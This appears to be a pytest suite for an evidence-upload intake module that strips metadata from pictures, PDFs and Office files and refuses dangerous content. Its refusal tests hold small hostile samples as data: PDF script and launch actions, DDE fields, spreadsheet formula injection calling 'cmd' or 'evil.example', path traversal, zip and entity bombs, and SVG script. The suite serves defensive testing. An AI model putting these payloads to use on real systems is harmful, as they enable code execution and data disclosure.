"""Intake: what is taken, what is stripped from it, and what is refused with the reason."""

import io
import re
import socket
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pikepdf
import pytest
from django.test import override_settings
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from factories.evidence import (
    AUTHOR,
    CAMERA,
    changed_zip,
    docx,
    everything_in,
    jpeg,
    pdf,
    png,
    xlsx,
)
from standfast.apps.evidence import intake
from standfast.apps.evidence.intake import DOCX, XLSX, take_in
from standfast.log.operations import Refused

PLANTED = (AUTHOR.encode(), b"Zqauthor", b"ZQAUTH", CAMERA.encode(), b"48123", b"Exif\0\0")


@pytest.mark.parametrize(
    ("content", "media_type"),
    [
        (jpeg(), "image/jpeg"),
        (png(), "image/png"),
        (pdf(), "application/pdf"),
        (docx(), DOCX),
        (xlsx(), XLSX),
    ],
    ids=["jpeg", "png", "pdf", "docx", "xlsx"],
)
def test_a_planted_place_and_name_are_in_the_file_and_not_in_what_is_kept(
    content: bytes, media_type: str
) -> None:
    before = everything_in(content)

    taken = take_in(content, name="any.bin")

    kept = everything_in(taken.content)
    assert any(word in before for word in PLANTED)
    assert [word for word in PLANTED if word in kept] == []
    assert taken.media_type == media_type
    assert taken.stripped


def test_a_photograph_keeps_its_pixels_upright() -> None:
    taken = take_in(jpeg("red", size=(24, 16)), name="x.jpg")

    with Image.open(io.BytesIO(taken.content)) as picture:
        assert picture.size == (16, 24)
        assert not picture.getexif()
        assert set(picture.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
        red, green, blue = picture.getpixel((8, 12))  # type: ignore[misc]
    assert red > 240
    assert green < 15
    assert blue < 15
    assert taken.stripped[:2] == (
        "the place where it was taken (GPS)",
        "what the camera wrote (EXIF: device, time, owner, thumbnail)",
    )


def test_a_transparent_picture_stays_so() -> None:
    taken = take_in(png(), name="x.png")

    with Image.open(io.BytesIO(taken.content)) as picture:
        assert picture.getpixel((0, 0)) == (1, 2, 3, 128)


def test_a_pdf_keeps_its_pages_and_notes() -> None:
    taken = take_in(pdf(), name="x.pdf")

    with pikepdf.open(io.BytesIO(taken.content)) as opened:
        assert len(opened.pages) == 1
        (note,) = opened.pages[0].Annots
        assert str(note.Contents) == "A note that stays"
        assert "/T" not in note
        assert "/Info" not in opened.trailer
        stream = opened.pages[0].Resources.XObject.Im0.read_raw_bytes()
    with Image.open(io.BytesIO(stream)) as picture:
        picture.load()
        assert picture.size == (24, 16)


def test_documents_still_open_and_say_what_they_said() -> None:
    from docx import Document  # noqa: PLC0415 -- slow to load, and for this test alone
    from openpyxl import load_workbook  # type: ignore[import-untyped]  # noqa: PLC0415

    text = Document(io.BytesIO(take_in(docx(), name="x.docx").content))
    book = load_workbook(io.BytesIO(take_in(xlsx(), name="x.xlsx").content))

    assert text.paragraphs[0].text == "The fence was mended on the north side."
    assert [comment.author for comment in text.comments] == ["Author"]
    assert book.active["A1"].value == "post"
    assert book.active["A1"].comment.text == "Counted twice."
    assert book.active["A2"].value == "=SUM(1,2)"


@pytest.mark.parametrize("make", [jpeg, png, pdf, docx, xlsx])
def test_what_is_kept_is_taken_again_unchanged_in_type(make: Callable[[], bytes]) -> None:
    once = take_in(make(), name="x")

    again = take_in(once.content, name="x")

    assert again.media_type == once.media_type
    assert again.stripped == ()


@pytest.mark.parametrize(
    ("content", "media_type"),
    [
        (b"post,guards\nP1,4\nP2,3\n", "text/csv"),
        (b"post;guards\nP1;-4\n", "text/csv"),
        ("نقطة الحراسة على السور".encode(), "text/plain"),
        (b"BMP of the MZ road: ID3 is not here", "text/plain"),
    ],
)
def test_text_is_told_from_tables_by_what_it_holds(content: bytes, media_type: str) -> None:
    taken = take_in(content, name="notes.txt")

    assert (taken.media_type, taken.content) == (media_type, content)
    assert taken.stripped == ()


def test_a_text_of_another_encoding_is_kept_as_utf8() -> None:
    taken = take_in("Zaun, geflickt: Größe 3".encode("utf-16"), name="a.txt")

    assert taken.content.decode() == "Zaun, geflickt: Größe 3"
    assert taken.stripped == ("the mark of the encoding",)


def with_script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def with_launch(made: pikepdf.Pdf) -> None:
    note = made.pages[0].Annots[0]
    note.A = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def with_attachment(made: pikepdf.Pdf) -> None:
    made.attachments["a.txt"] = b"hidden"


def with_submit(made: pikepdf.Pdf) -> None:
    made.pages[0].Annots[0].A = pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm, F="https://evil.example"
    )


def with_hidden_script(made: pikepdf.Pdf) -> None:
    deep = pikepdf.Dictionary(A=pikepdf.Dictionary(B=[pikepdf.Dictionary(JS="x")]))
    made.pages[0].Group = made.make_indirect(pikepdf.Dictionary(C=deep))


def with_file_link(made: pikepdf.Pdf) -> None:
    made.pages[0].Annots[0].A = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="file:///etc/passwd")


def locked_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as opened:
        opened.save(out, encryption=pikepdf.Encryption(owner="x", user=""))
    return out.getvalue()


def related(kind: str, target: str, *, mode: str = ' TargetMode="External"') -> bytes:
    line = (
        f'<Relationship Id="rId99" Type="http://x/{kind}" Target="{target}"{mode}/></Relationships>'
    )
    return changed_zip(
        docx(),
        {
            "word/_rels/document.xml.rels": lambda data: data.replace(
                b"</Relationships>", line.encode()
            )
        },
    )


def with_field(instruction: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in instruction)
    return changed_zip(
        docx(),
        {"word/document.xml": lambda data: data.replace(b"</w:p>", f"{runs}</w:p>".encode(), 1)},
    )


def with_formula(text: str) -> bytes:
    return changed_zip(
        xlsx(),
        {"xl/worksheets/sheet1.xml": lambda data: data.replace(b"SUM(1,2)", text.encode())},
    )


def bomb() -> bytes:
    return changed_zip(docx(), more={"word/more.xml": b"<a>" + b" " * 9_000_000 + b"</a>"})


def billion() -> bytes:
    laughs = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>'
    return changed_zip(docx(), more={"word/more.xml": laughs})


def twice() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/DOCUMENT.xml", b"<a/>")
    return out.getvalue()


def animated() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("a.txt", "a")
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"", "The file is empty"),
        (pdf(with_script), "holds a script"),
        (pdf(with_launch), "starts a program"),
        (pdf(with_attachment), "attached files"),
        (pdf(with_submit), "sent somewhere"),
        (pdf(with_hidden_script), "holds a script"),
        (pdf(with_file_link), "opens something else"),
        (locked_pdf(), "protected"),
        (b"%PDF-1.7\nnothing", "This PDF cannot be read"),
        (pdf() + archive(), "two things at once: a PDF and an archive"),
        (jpeg() + archive(), "two things at once: a picture and an archive"),
        (jpeg()[:-2] + b"%PDF-1.4", "two things at once: a picture and a PDF"),
        (jpeg()[:30], "cannot be read"),
        (animated(), "moves"),
        (changed_zip(docx(), more={"word/vbaProject.bin": b"x"}), "macros"),
        (changed_zip(docx(), more={"word/embeddings/oleObject1.bin": b"x"}), "embedded objects"),
        (changed_zip(docx(), more={"word/activeX/activeX1.xml": b"<a/>"}), "ActiveX"),
        (changed_zip(xlsx(), more={"xl/externalLinks/e1.xml": b"<a/>"}), "links to other files"),
        (changed_zip(docx(), more={"word/media/drawing.svg": b"<svg/>"}), "drawing inside"),
        (changed_zip(docx(), more={"word/media/a.emf": b"x"}), "not looked into here (.emf)"),
        (changed_zip(docx(), more={"../../evil.xml": b"<a/>"}), "leads out of it"),
        (related("attachedTemplate", "https://evil.example/t.dotm"), "references to other files"),
        (related("image", "https://evil.example/pixel.png"), "references to other files"),
        (related("hyperlink", "file://server/share"), "references to other files"),
        (with_field(" DDEAUTO c:\\\\windows"), "fields that fetch"),
        (with_field(' INCLUDEPICTURE "http://evil.example"'), "fields that fetch"),
        (with_formula("cmd|' /C calc'!A0"), "formulas that call"),
        (with_formula('WEBSERVICE("http://evil.example")'), "formulas that call"),
        (bomb(), "grows beyond all measure"),
        (billion(), "defines words of its own"),
        (twice(), "two parts under one name"),
        (archive(), "Archives are not taken"),
        (b"<svg onload='alert(1)'></svg>", "HTML, SVG and other XML are not taken"),
        (b"\xef\xbb\xbf \n<!DOCTYPE html><html>", "HTML, SVG and other XML are not taken"),
        (b"See <script>alert(1)</script>", "holds a script"),
        (b"a,b\n=cmd|'/c calc'!A0,1\n", "calls another program"),
        (b'a,b\n1,"=WEBSERVICE(""http://x"")"\n', "calls another program"),
        (b"{\\rtf1 x}", "RTF is not taken"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64), "old Office file"),
        (b"ID3\x04" + bytes(40), "Sound and video"),
        (bytes(4) + b"ftypisom" + bytes(40), "Sound and video"),
        (bytes(4) + b"ftypheic" + bytes(40), "HEIC"),
        (b"GIF89a" + bytes(40), "Of pictures JPEG"),
        (b"MZ\x90\0" + bytes(40), "Programs and scripts"),
        (bytes(range(256)), "no file that is taken"),
    ],
)  # fmt: skip
def test_what_is_active_hidden_or_of_no_taken_type_is_refused(
    content: bytes, sentence: str
) -> None:
    with pytest.raises(Refused, match=re.escape(sentence)):
        take_in(content, name="x")


def test_a_hyperlink_to_the_web_stays() -> None:
    taken = take_in(related("hyperlink", "https://un.example/report"), name="x.docx")

    assert b"https://un.example/report" in everything_in(taken.content)


def test_a_picture_of_more_pixels_than_are_unpacked_is_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("standfast.apps.evidence.pictures.MOST_PIXELS", 100)

    with pytest.raises(Refused, match="24 by 16 pixels"):
        take_in(jpeg(), name="x")


def test_a_picture_that_declares_far_more_pixels_than_it_holds_is_not_unpacked() -> None:
    out = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(out, "PNG")

    with pytest.raises(Refused, match=r"pixels|cannot be read"):
        take_in(out.getvalue(), name="x")


@pytest.mark.parametrize(("size", "taken"), [(1_000, True), (1_001, False)])
def test_the_limit_is_the_one_that_is_set(size: int, taken: bool) -> None:
    with override_settings(EVIDENCE_MB=0.001):
        assert (intake.size_blocker(size) is None) is taken


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("C:\\Users\\Deng\\fence.JPG", "fence.jpg"),
        ("/pictures/deng/fence.jpeg", "fence.jpeg"),
        ("fence.exe", "fence.exe.jpg"),
        ("fence\u202egpj.exe", "fencegpj.exe.jpg"),
        ("..", "file.jpg"),
        ('a"b<c>.jpg', "a_b_c_.jpg"),
        ("", "file.jpg"),
        ("x" * 300 + ".jpg", "x" * 116 + ".jpg"),
    ],
)
def test_a_name_is_kept_without_path_or_tricks(given_name: str, kept: str) -> None:
    assert intake.kept_name(given_name, "image/jpeg") == kept


@given(name=st.text(max_size=200))
def test_any_name_becomes_one_that_is_safe(name: str) -> None:
    kept = intake.kept_name(name, "application/pdf")

    assert 5 <= len(kept) <= intake.LONGEST_NAME
    assert kept.endswith(".pdf")
    assert not set(kept) & set('/\\<>:"|?*\r\n\0')


BASES = {"jpeg": jpeg(), "png": png(), "pdf": pdf(), "docx": docx(), "xlsx": xlsx()}


def is_taken_or_refused(content: bytes) -> None:
    try:
        taken = take_in(content, name="x")
    except Refused:
        return
    assert intake.type_of(taken.content) == taken.media_type
    assert b"48123" not in everything_in(taken.content)


@given(content=st.binary(max_size=400))
def test_any_bytes_are_taken_or_refused(content: bytes) -> None:
    is_taken_or_refused(content)


@given(
    kind=st.sampled_from(sorted(BASES)),
    places=st.lists(st.tuples(st.floats(0, 1), st.binary(min_size=1, max_size=6)), max_size=4),
    cut=st.floats(0.2, 1),
)
def test_any_damage_to_a_file_has_it_taken_or_refused(
    kind: str, places: list[tuple[float, bytes]], cut: float
) -> None:
    content = bytearray(BASES[kind])
    for place, put in places:
        begin = int(place * (len(content) - 1))
        content[begin : begin + len(put)] = put

    is_taken_or_refused(bytes(content[: max(1, int(cut * len(content)))]))


class Daemon:
    """A scanner that answers one file."""

    def __init__(self, path: Path, answer: bytes) -> None:
        self.path, self.answer, self.seen = path, answer, b""
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.bind(str(path))
        self.socket.listen(1)
        self.thread = threading.Thread(target=self._serve)
        self.thread.start()

    def _serve(self) -> None:
        connection, _ = self.socket.accept()
        with connection:
            while not self.seen.endswith(bytes(4)) and (part := connection.recv(65_536)):
                self.seen += part
            connection.sendall(self.answer)

    def close(self) -> None:
        self.thread.join(5)
        self.socket.close()


@pytest.fixture
def daemon(tmp_path: Path) -> Iterator[Callable[[bytes], Daemon]]:
    opened: list[Daemon] = []

    def answering(answer: bytes) -> Daemon:
        opened.append(Daemon(tmp_path / "clamd", answer))
        return opened[-1]

    yield answering
    for one in opened:
        one.close()


def test_a_file_that_the_scanner_passes_is_taken_after_it_saw_all_of_it(
    daemon: Callable[[bytes], Daemon],
) -> None:
    scanner = daemon(b"stream: OK\0")

    with override_settings(EVIDENCE_SCANNER=f"unix:{scanner.path}"):
        take_in(b"A plain note.", name="a.txt")

    assert scanner.seen == b"zINSTREAM\0" + b"\0\0\0\rA plain note." + bytes(4)


@pytest.mark.parametrize(
    ("answer", "sentence"),
    [
        (b"stream: Eicar-Test-Signature FOUND\0", "found something harmful"),
        (b"INSTREAM size limit exceeded. ERROR\0", "does not answer"),
        (b"", "does not answer"),
    ],
)
def test_whatever_the_scanner_does_not_pass_is_refused(
    daemon: Callable[[bytes], Daemon], answer: bytes, sentence: str
) -> None:
    scanner = daemon(answer)

    with (
        override_settings(EVIDENCE_SCANNER=f"unix:{scanner.path}"),
        pytest.raises(Refused, match=sentence),
    ):
        take_in(b"A plain note.", name="a.txt")


@pytest.mark.parametrize("address", ["unix:nowhere/clamd", "tcp:127.0.0.1:9", "tcp:", "what"])
def test_no_file_is_taken_while_the_scanner_is_down(address: str) -> None:
    with (
        override_settings(EVIDENCE_SCANNER=address),
        pytest.raises(Refused, match="so none is taken"),
    ):
        take_in(b"A plain note.", name="a.txt")
